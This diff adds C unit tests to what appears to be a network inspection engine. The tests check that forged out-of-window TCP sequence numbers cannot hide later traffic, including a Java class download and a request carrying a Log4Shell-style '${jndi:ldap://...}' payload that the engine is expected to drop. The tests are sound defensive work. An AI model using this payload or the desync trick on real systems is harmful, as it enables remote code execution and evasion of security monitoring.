@@ -544,6 +544,35 @@ START_TEST(a_flow_whose_block_has_ended_in_mode_advise_is_flagged)
 }
 END_TEST
 
+// Bytes nobody can take (the receiver is elsewhere) name numbers, so that all that follows lies outside.
+START_TEST(forged_numbers_of_a_flow_without_a_handshake_do_not_hide_the_rest)
+{
+	for (int strict = 0; strict < 2; strict++) {
+		if (strict)
+			build_refusing(COUNT_TCP_OUTSIDE_WINDOW);
+		publish_certain(0);
+		ck_assert_int_eq(say_at(1, talk.seq[1] + 0x20000000, TCP_ACK, "junk", 4), INSPECT_FORWARD);
+		say(0, TCP_ACK, class_request, sizeof(class_request) - 1);
+		ck_assert_int_eq(say(1, TCP_ACK, java_class, sizeof(java_class) - 1), strict ? INSPECT_DROP : INSPECT_FORWARD);
+	}
+}
+END_TEST
+
+// The same after a SYN, before its answer; here it is no accident that the handshake was not seen.
+START_TEST(forged_bytes_before_the_handshake_do_not_hide_the_rest)
+{
+	build_refusing(COUNT_TCP_OUTSIDE_WINDOW);
+	talk.client_side = 1;
+	say(0, TCP_SYN, NULL, 0);
+	talk.seq[1] += 0x10000000;
+	ck_assert_int_eq(say_at(0, talk.seq[0], TCP_ACK, "G", 1), INSPECT_FORWARD);
+	talk.seq[1] -= 0x10000000;
+	say(1, TCP_SYN | TCP_ACK, NULL, 0);
+	say(0, TCP_ACK, NULL, 0);
+	ck_assert_int_eq(say(0, TCP_ACK, "GET /${jndi:ldap://x/a} HTTP/1.1\r\n\r\n", 37), INSPECT_DROP);
+}
+END_TEST
+
 static TCase *hostile_case(void)
 {
 	TCase *t = tcase_create("hostile");
@@ -573,6 +602,8 @@ static TCase *hostile_case(void)
 	tcase_add_test(t, a_heartbeat_from_the_future_is_no_heartbeat);
 	tcase_add_test(t, a_server_cannot_turn_the_flow_round);
 	tcase_add_test(t, a_held_frame_is_counted_once);
+	tcase_add_test(t, forged_bytes_before_the_handshake_do_not_hide_the_rest);
+	tcase_add_test(t, forged_numbers_of_a_flow_without_a_handshake_do_not_hide_the_rest);
 	tcase_add_test(t, a_flow_whose_block_has_ended_in_mode_advise_is_flagged);
 	tcase_add_test(t, what_a_cut_flow_says_when_it_passes_again_is_flagged);
 	tcase_add_test(t, a_block_that_a_person_confirmed_holds_where_the_flow_table_is_full);
